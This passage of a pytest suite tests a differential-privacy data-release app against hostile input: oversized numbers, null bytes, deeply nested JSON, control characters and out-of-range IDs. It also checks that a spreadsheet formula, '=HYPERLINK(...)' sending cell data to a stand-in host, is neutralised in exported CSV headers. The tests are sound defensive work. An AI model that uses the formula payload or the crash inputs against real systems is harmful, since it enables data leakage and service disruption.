                "mechanism": "kdtree-grid",
                "epsilon": "0.1",
                "delta": "0",
                "rows": "5",
                "param_placement": "uniform",
                "confirm_would_fail": "on",
                param: value,
            },
        ),
        f"parameter '{param.removeprefix('param_')}'",
    )


@pytest.mark.parametrize("epsilon", ["1e30000000", "-1e30000000", "1e-400", "1e400"])
def test_web_budget_form_refuses_hostile_caps_fast(world, settings, epsilon):
    import time

    before = snapshot(world, settings)
    t0 = time.perf_counter()
    resp = world.client(world.owner).post(
        f"/datasets/{world.dataset.pk}/budget/", {"preset": "custom", "epsilon": epsilon, "delta": "0"}, follow=True
    )
    assert resp.status_code == 200 and time.perf_counter() - t0 < FAST
    assert snapshot(world, settings) == before


# GET parameters: a hostile LINK must not stall or crash the release form (it computes an estimate)
HOSTILE_QUERIES = [
    "mechanism=privhp&epsilon=1e10000000",
    "mechanism=privhp&epsilon=1e400",
    "mechanism=privhp&epsilon=1e-400",
    "mechanism=privhp&epsilon=-1e30000000",
    "mechanism=privhp&epsilon=" + "9" * 5000,
    "mechanism=privhp&epsilon=1&param_memory_mb=1e400",
    "mechanism=privhp&epsilon=1&param_memory_mb=1e-400",
    "mechanism=privhp&epsilon=1&param_depth=" + "9" * 5000,
    "mechanism=privhp&epsilon=1&param_k=1e400",
    "mechanism=privhp&epsilon=1&param_width=-1",
    "mechanism=privhp&epsilon=%00",
    "mechanism=kdtree-grid&epsilon=1e-400",
    "mechanism=" + "x" * 5000,
    "mechanism=%00",
    "mechanism=privhp&epsilon=1/0",
]


@pytest.mark.parametrize("query", HOSTILE_QUERIES, ids=lambda q: q[:60])
def test_release_form_get_survives_hostile_links_fast(world, settings, query):
    import time

    before = snapshot(world, settings)
    t0 = time.perf_counter()
    resp = world.client(world.owner).get(f"/datasets/{world.dataset.pk}/releases/new/?{query}")
    assert resp.status_code == 200 and time.perf_counter() - t0 < FAST
    assert snapshot(world, settings) == before


# The command line: the same rule (mechanisms.accounting.exact), one line on stderr, exit status 2
@pytest.mark.parametrize(
    "args, message",
    [
        (["--epsilon", "1e30000000"], "between 1e-30"),
        (["--epsilon", "1e-400"], "between 1e-30"),
        (["--epsilon", "9" * 5000], "at most 40 characters"),
        (["--epsilon", "0.1", "--param", "width=1e-400"], "width"),
        (["--epsilon", "0.1", "--param", "threshold=" + "9" * 5000], "threshold"),
        (["--epsilon", "0.1", "--param", "beta=1e400"], "beta"),
    ],
)
def test_cli_refuses_hostile_amounts_fast(tmp_path, capsys, args, message):
    import time

    from mechanisms.__main__ import main

    data, schema = tmp_path / "d.csv", tmp_path / "s.json"
    data.write_text(HEADER + ROW * 5)
    schema.write_text(json.dumps(SMALL_SCHEMA))
    t0 = time.perf_counter()
    code = main(
        [
            "synthesize",
            "kdtree-grid",
            "--data",
            str(data),
            "--schema",
            str(schema),
            "--out",
            str(tmp_path / "o.csv"),
            *args,
        ]
    )
    assert code == 2 and time.perf_counter() - t0 < FAST
    assert message in capsys.readouterr().err
    assert not (tmp_path / "o.csv").exists()


def test_cli_refuses_a_deeply_nested_schema(tmp_path, capsys):
    from mechanisms.__main__ import main

    (tmp_path / "s.json").write_text(DEEP_LIST)
    (tmp_path / "d.csv").write_text(HEADER + ROW)
    code = main(
        [
            "synthesize",
            "baseline",
            "--data",
            str(tmp_path / "d.csv"),
            "--schema",
            str(tmp_path / "s.json"),
            "--epsilon",
            "1",
            "--out",
            str(tmp_path / "o.csv"),
        ]
    )
    assert code == 2 and "deeper than the limit" in capsys.readouterr().err


def test_a_release_whose_memory_plan_exceeds_the_limit_is_refused_before_reservation(world, timed):
    """DP-MERF on 100,000 declared categories would ask for 74.5 GiB in fit, after epsilon 1 and delta 1e-6
    were spent: the plan check refuses it before anything is reserved."""
    schema = json.loads(json.dumps(SMALL_SCHEMA))
    schema["columns"][1]["categories"] = ["Paris", "Lyon", "Nice", "other"] + [f"c{i}" for i in range(100_000)]
    world.dataset = make_dataset(world.owner, schema=schema)
    body = '{"mechanism": "dpmerf", "epsilon": "1", "delta": "1e-6"}'
    text = timed(
        api_post(world, f"/api/datasets/{world.dataset.pk}/releases/", body), "memory limit per job is 8.0 GiB"
    )
    assert "dpmerf would need about" in text


def test_formulas_in_column_names_are_neutralised_in_the_spreadsheet_header_and_kept_in_the_analysis_csv(world):
    """'=HYPERLINK(...)' as a column name: guarded in the spreadsheet-safe file, exact in the analysis file."""
    import csv as csv_module

    evil = '=HYPERLINK("http://x.example/?"&A2)'
    schema = json.loads(json.dumps(SMALL_SCHEMA))
    schema["columns"][0]["name"] = evil
    schema["columns"][1]["name"] = "@city"
    text = HEADER.replace("age", '"' + evil.replace('"', '""') + '"').replace("city", "@city") + "".join(
        f"{30 + i},Paris,100,x\n" for i in range(10)
    )
    ds = make_dataset(world.owner, text=text, schema=schema)
    release = run_release(ds, world.owner, rows=20)
    body = world.client(world.owner).get(f"/releases/{release.pk}/synthetic-spreadsheet.csv")
    header = next(csv_module.reader(io.StringIO(b"".join(body.streaming_content).decode())))
    assert header == ["'" + evil, "'@city", "income"]  # (excluded columns are not synthesized)
    body = world.client(world.owner).get(f"/releases/{release.pk}/synthetic.csv")
    header = next(csv_module.reader(io.StringIO(b"".join(body.streaming_content).decode())))
    assert header == [evil, "@city", "income"]
    manifest = world.client(world.owner).get(f"/api/releases/{release.pk}/manifest.json", **world.api(world.owner))
    assert [c["name"] for c in manifest.json()["schema"]["columns"]][:2] == [evil, "@city"]


def test_the_header_guard_is_undone_for_evaluation():
    import pandas as pd

    from mechanisms.evaluation.tables import undo_formula_guard
    from mechanisms.io import neutralize_formulas
    from mechanisms.schema import Schema

    schema = Schema.from_dict(
        {
            "columns": [
                {"name": "=a", "kind": "categorical", "categories": ["-x", "y"]},
                {"name": "b", "kind": "integer", "lower": -5, "upper": 5},
            ]
        }
    )
    df = pd.DataFrame({"=a": ["-x", "y"], "b": [-1, 2]})
    guarded = neutralize_formulas(df)
    assert list(guarded.columns) == ["'=a", "b"] and list(guarded["b"]) == [-1, 2]
    back = undo_formula_guard(schema, guarded.astype(str))
    assert list(back.columns) == ["=a", "b"] and list(back["=a"]) == ["-x", "y"]


@pytest.mark.parametrize(
    "url",
    [
        "/releases/99999999999999999999999/",
        "/datasets/99999999999999999999999/",
        "/datasets/{pk}/compare/?a=99999999999999999999999&b=1",
        "/datasets/{pk}/compare/?a=" + "9" * 5000 + "&b=1",
        "/datasets/{pk}/ledger/?sort=%00&dir=" + "x" * 5000,
    ],
)
def test_out_of_range_ids_in_links_are_404_not_500(world, url):
    import time

    t0 = time.perf_counter()
    resp = world.client(world.owner).get(url.format(pk=world.dataset.pk))
    assert resp.status_code in (200, 404) and time.perf_counter() - t0 < FAST


def test_out_of_range_ids_in_the_api_are_404_json(world):
    resp = world.client(None).get("/api/releases/99999999999999999999999/", **world.api(world.owner))
    assert resp.status_code == 404 and resp.json()["error"] == "not found"


@pytest.mark.parametrize(
    "body, message",
    [
        ('{"columns": ["age"], "epsilon": "1e30000000"}', "between 1e-30 and 1e30"),
        ('{"columns": ["age"], "epsilon": "1e-400"}', "between 1e-30 and 1e30"),
        (f'{{"columns": ["age"], "epsilon": {BIG_INT}}}', "limit is 100"),
        ('{"columns": ' + "[" * 50_000 + "]" * 50_000 + "}", "deeper than the limit"),
        ('{"columns": ["a\\u0000ge"], "epsilon": "0.1"}', "choose columns of the file"),
    ],
)
def test_api_private_bounds_refuses_hostile_input_fast(world, timed, body, message):
    timed(api_post(world, f"/api/datasets/{world.dataset.pk}/bounds/", body), message)


@pytest.mark.parametrize(
    "body, message",
    [
        ('{"title": "a\\u0000b"}', "control characters"),
        ('{"note": "\\u001b[2J"}', "control characters"),
        ('{"title": ' + "[" * 50_000 + "]" * 50_000 + "}", "deeper than the limit"),
    ],
)
def test_api_release_labels_refuse_control_characters(world, timed, body, message):
    timed(api_post(world, f"/api/releases/{world.release.pk}/", body, method="patch"), message)
    world.release.refresh_from_db()
    assert "\x00" not in world.release.title and "\x1b" not in world.release.note
